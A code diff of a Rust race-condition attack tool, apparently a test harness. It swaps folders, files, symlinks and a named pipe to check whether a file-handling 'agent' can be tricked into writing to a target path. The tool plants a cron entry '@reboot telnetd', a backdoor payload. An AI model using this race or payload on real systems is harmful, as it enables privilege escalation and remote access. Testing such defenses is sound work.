@@ -9,13 +9,13 @@
 #![expect(clippy::disallowed_methods, reason = "it measures time, and plays with names")]
 
 use nix::fcntl::{AT_FDCWD, RenameFlags, renameat2};
-use nix::libc::O_NONBLOCK;
 use nix::sys::stat::Mode;
 use std::fs;
 use std::fs::OpenOptions;
-use std::os::unix::fs::{OpenOptionsExt, PermissionsExt, symlink};
+use std::os::unix::fs::{PermissionsExt, symlink};
 use std::path::{Path, PathBuf};
-use std::process::ExitCode;
+use std::sync::Arc;
+use std::sync::atomic::{AtomicBool, Ordering};
 use std::time::{Duration, Instant};
 
 /// The files that it lays, by their names in the folder `a`.
@@ -31,11 +31,11 @@ const FILES: [(&str, &str); 6] = [
     ("root", "@reboot telnetd\n"),
 ];
 
-fn main() -> ExitCode {
+fn main() {
     let words: Vec<String> = std::env::args().skip(1).collect();
     let [inner, target, milliseconds] = &words[..] else {
         eprintln!("racer PATH TARGET MILLISECONDS");
-        return ExitCode::FAILURE;
+        std::process::exit(2);
     };
     let inner = PathBuf::from(inner);
     let end = Instant::now() + Duration::from_millis(milliseconds.parse().unwrap_or(1000));
@@ -44,15 +44,21 @@ fn main() -> ExitCode {
     attacker.lay();
     // The agent waits for this line: now everything is laid.
     println!("laid");
-    let opened = std::thread::scope(|scope| {
-        let opened = scope.spawn(|| attacker.watch_pipe());
+    let opened = Arc::new(AtomicBool::new(false));
+    let (told, watched) = (opened.clone(), attacker.folder.join("pipe-watched"));
+    // It may wait for ever, and ends with the program.
+    std::thread::spawn(move || {
+        // A pipe is open for writing as soon as it has had a reader.
+        let reader = OpenOptions::new().write(true).open(watched);
+        told.store(reader.is_ok(), Ordering::SeqCst);
+    });
+    std::thread::scope(|scope| {
         scope.spawn(|| attacker.swap_folders());
         attacker.swap_files();
-        opened.join().unwrap_or(true)
     });
     // The agent ends with a folder again, as it began.
     attacker.lay();
-    if opened { ExitCode::from(3) } else { ExitCode::SUCCESS }
+    std::process::exit(if opened.load(Ordering::SeqCst) { 3 } else { 0 });
 }
 
 struct Attacker {
@@ -69,22 +75,24 @@ impl Attacker {
         Instant::now() < self.end
     }
 
-    /// Everything that is missing. Each step may fail: the other threads swap meanwhile.
+    /// Everything, anew. Each step may fail: the other threads swap meanwhile.
     fn lay(&self) {
         let a = &self.inner;
         let _ = fs::create_dir(a);
         let _ = fs::create_dir(a.join("cron.d"));
         for (name, bytes) in FILES {
-            let path = a.join(name);
-            if fs::symlink_metadata(&path).is_err() && fs::write(&path, bytes).is_ok() {
-                let _ = fs::set_permissions(&path, fs::Permissions::from_mode(0o666));
-            }
+            let fresh = self.folder.join("fresh");
+            let _ = fs::write(&fresh, bytes);
+            let _ = fs::set_permissions(&fresh, fs::Permissions::from_mode(0o666));
+            let _ = fs::rename(&fresh, a.join(name));
         }
         let _ = symlink(&self.target, self.folder.join("b"));
         for (name, _) in FILES {
             let _ = symlink(self.target.join(name), self.folder.join(format!("link-{name}")));
         }
-        let _ = nix::unistd::mkfifo(&self.folder.join("pipe"), Mode::from_bits_truncate(0o666));
+        let watched = self.folder.join("pipe-watched");
+        let _ = nix::unistd::mkfifo(&watched, Mode::from_bits_truncate(0o666));
+        let _ = fs::hard_link(watched, self.folder.join("pipe"));
     }
 
     fn swap_folders(&self) {
@@ -101,7 +109,6 @@ impl Attacker {
     }
 
     fn swap_files(&self) {
-        let mut round = 0;
         while self.go_on() {
             for (name, _) in FILES {
                 let inside = self.inner.join(name);
@@ -111,29 +118,8 @@ impl Attacker {
                     exchange(&inside, &other);
                 }
             }
-            round += 1;
-            if round % 8 == 0 {
-                self.lay();
-            }
+            self.lay();
         }
-    }
-
-    /// Whether the pipe had a reader at any time: then it can be opened for writing without waiting.
-    fn watch_pipe(&self) -> bool {
-        let mut opened = false;
-        let pipe = self.folder.join("pipe");
-        while self.go_on() {
-            let is_pipe = fs::symlink_metadata(&pipe)
-                .is_ok_and(|seen| std::os::unix::fs::FileTypeExt::is_fifo(&seen.file_type()));
-            let mut options = OpenOptions::new();
-            options.write(true).custom_flags(O_NONBLOCK);
-            opened |= is_pipe
-                && options.open(&pipe).is_ok_and(|file| {
-                    file.metadata()
-                        .is_ok_and(|seen| std::os::unix::fs::FileTypeExt::is_fifo(&seen.file_type()))
-                });
-        }
-        opened
     }
 }
 
